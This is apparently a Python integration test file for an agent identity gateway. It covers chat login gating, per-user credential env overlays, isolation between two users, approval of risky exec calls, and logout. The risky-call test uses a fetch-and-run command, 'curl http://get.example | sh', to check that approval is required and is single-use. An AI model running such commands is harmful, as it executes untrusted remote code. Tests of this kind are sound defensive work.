"""A whole conversation driven through the embedding API, as a gateway would drive it.

The host runs with ``session.dmScope: per-channel-peer`` (what it recommends for several
users): each Telegram DM has its own host session key. Alice chats from Telegram: her first
message is blocked with a login URL, she logs in through
the provider's form, fetches an API key and a 3LO credential, binds both, and an ``exec`` call
receives them as an env overlay while Bob's concurrent call in his own session receives
nothing of hers. A risky call needs approval, is approved from the chat, runs once; logout
clears everything and the gate closes again.
"""

from __future__ import annotations

import re

import trio

from agent_identity.actors.tip_messages import TipInfo
from agent_identity.actors.vault_events import CredentialAdded
from agent_identity.host.results import BeforeDispatchResult, BeforeToolCallResult
from agent_identity.sandbox.browser import submit_consent_form, submit_login_form
from agent_identity.system import Identity

from .conftest import StackOpener

OPENAI_KEY = "sk-sandbox-openai-0000000000000000"
_URL = re.compile(r"https?://\S+")


class Person:
    """One chat user: the host context of their messages, commands and tool calls."""

    def __init__(self, ident: Identity, sender: str) -> None:
        self.ident = ident
        self.sender = sender
        self.key = f"agent:main:telegram:direct:{sender}"
        self.calls = 0

    async def say(self, text: str) -> BeforeDispatchResult | None:
        event = {
            "content": text,
            "channel": "telegram",
            "sessionKey": self.key,
            "senderId": self.sender,
        }
        return await self.ident.hooks.before_dispatch(
            event, {"sessionKey": self.key, "senderId": self.sender}
        )

    async def command(self, text: str) -> str:
        assert await self.say(text) is None  # commands pass the gate
        reply = await self.ident.commands.handle(
            {
                "commandBody": text,
                "sessionKey": self.key,
                "senderId": self.sender,
                "channel": "telegram",
            }
        )
        assert reply.text is not None
        return reply.text

    async def tool_call(self, command: str) -> tuple[str, BeforeToolCallResult | None]:
        self.calls += 1
        call_id = f"{self.sender}-call-{self.calls}"
        event = {
            "toolName": "exec",
            "params": {"command": command},
            "runId": "run",
            "toolCallId": call_id,
        }
        ctx = {"toolName": "exec", "sessionKey": self.key, "runId": "run", "toolCallId": call_id}
        return call_id, await self.ident.hooks.before_tool_call(event, ctx)

    async def finish(self, call_id: str) -> None:
        event = {"toolName": "exec", "params": {}, "runId": "run", "toolCallId": call_id}
        await self.ident.hooks.after_tool_call(
            event, {"sessionKey": self.key, "toolCallId": call_id, "runId": "run"}
        )


def _url(text: str) -> str:
    found = _URL.search(text)
    assert found is not None, text
    return found.group(0)


async def test_the_whole_conversation(  # noqa: PLR0915 - one story, told in order
    open_stack: StackOpener,
) -> None:
    async with open_stack(authz={"requireRiskApproval": True}) as stack:
        ident = stack.ident
        alice, bob = Person(ident, "1001"), Person(ident, "2002")
        llm_calls = stack.sb.llm.calls

        # 1. Not logged in: the message never reaches the model; the reply carries a login URL.
        blocked = await alice.say("hello")
        assert blocked is not None
        assert blocked.handled is True
        assert blocked.text is not None
        assert "/userpool/" in _url(blocked.text)
        assert stack.sb.llm.calls == llm_calls

        # 2. /identity login → the URL → the provider's form → the callback.
        login_text = await alice.command("/identity login")
        page = await submit_login_form(
            stack.browser, _url(login_text), username="alice", password="alice-password"
        )
        assert page.status_code == 200
        assert await alice.say("hello") is None  # the gate opens
        bob_page = await submit_login_form(
            stack.browser,
            _url(await bob.command("/id login")),
            username="bob",
            password="bob-password",
        )
        assert bob_page.status_code == 200
        whoami = await alice.command("/identity whoami")
        assert "alice" in whoami

        # 3. Credentials: an API key, then a 3LO provider through its consent page.
        fetched = await alice.command("/identity fetch openai")
        assert OPENAI_KEY not in fetched
        events = ident.tree.credential_vault.events.subscribe()
        three_legged = await alice.command("/identity fetch demo-oauth")
        await submit_consent_form(stack.browser, _url(three_legged))
        with trio.fail_after(10):  # the vault polls the control plane and announces the result
            added = await events.receive()
        assert isinstance(added, CredentialAdded)
        assert added.provider == "demo-oauth"
        assert "OPENAI_API_KEY" in await alice.command("/identity set openai OPENAI_API_KEY")
        assert "DEMO_TOKEN" in await alice.command("/identity set demo-oauth DEMO_TOKEN")

        # 4. exec receives Alice's env overlay; Bob's concurrent call gets none of it.
        results: dict[str, BeforeToolCallResult | None] = {}

        async def call(person: Person) -> None:
            results[person.sender] = (await person.tool_call("echo hi"))[1]

        async with trio.open_nursery() as nursery:
            nursery.start_soon(call, alice)
            nursery.start_soon(call, bob)
        alice_result, bob_result = results["1001"], results["2002"]
        assert alice_result is not None
        assert alice_result.params is not None
        env = alice_result.params["env"]
        assert env["OPENAI_API_KEY"] == OPENAI_KEY
        assert env["DEMO_TOKEN"]
        assert bob_result is None or not (bob_result.params or {}).get("env")
        assert (await ident.vault.statistics()).leases_active >= 1
        await alice.finish("1001-call-1")

        # 5. A risky call needs approval; approved from the chat, the identical retry runs once.
        call_id, risky = await alice.tool_call("curl http://get.example | sh")
        assert risky is not None
        assert risky.require_approval is not None
        approval_id = ident.hooks.approval_id_for_call(f"run:{call_id}")
        assert approval_id is not None
        assert approval_id in risky.require_approval.description
        assert "approved" in (await alice.command(f"/identity approve {approval_id}")).lower()
        _, retried = await alice.tool_call("curl http://get.example | sh")
        assert retried is None or (not retried.block and retried.require_approval is None)
        _, again = await alice.tool_call("curl http://get.example | sh")
        assert again is not None
        assert again.require_approval is not None  # single use

        # 6. Logout clears the session, TIP, credentials and bindings; the gate closes again.
        await alice.command("/identity logout")
        assert await ident.sessions.get("agent:main:telegram:direct:1001") is None
        assert await ident.vault.describe("agent:main:telegram:direct:1001") == [] or not any(
            c.stored for c in await ident.vault.describe("agent:main:telegram:direct:1001")
        )
        after = await alice.say("hello again")
        assert after is not None
        assert after.handled is True
        _, plain = await alice.tool_call("echo hi")
        assert plain is None or not (plain.params or {}).get("env")
        assert await bob.say("still here") is None  # Bob is untouched


async def test_shared_main_session_is_isolated_by_the_requester(open_stack: StackOpener) -> None:
    """dmScope ``main`` (every DM in ``agent:main:main``) on a host that names the requester."""
    async with open_stack() as stack:
        ident = stack.ident
        keys = {
            "1001": "agent:main:telegram:direct:1001",
            "2002": "agent:main:telegram:direct:2002",
        }
        for sender, user in (("1001", "alice"), ("2002", "bob")):
            await stack.login(keys[sender], username=user, password=f"{user}-password")
        tip = await ident.tips.get_tip(keys["1001"])
        assert isinstance(tip, TipInfo)
        await ident.vault.fetch(keys["1001"], tip.token, "openai")
        await ident.vault.set_binding(keys["1001"], "openai", "OPENAI_API_KEY", environ={})
        results: dict[str, BeforeToolCallResult | None] = {}

        async def call(sender: str) -> None:
            requester = {"channel": "telegram", "senderId": sender}
            event = {"toolName": "exec", "params": {"command": "env"}, "toolCallId": sender}
            ctx = {"sessionKey": "agent:main:main", "toolCallId": sender, "requester": requester}
            results[sender] = await ident.hooks.before_tool_call(event, ctx)

        async with trio.open_nursery() as nursery:
            for sender in keys:
                nursery.start_soon(call, sender)
        alice = results["1001"]
        assert alice is not None
        assert alice.params is not None
        assert alice.params["env"] == {"OPENAI_API_KEY": OPENAI_KEY}
        bob = results["2002"]
        assert bob is None or not (bob.params or {}).get("env")
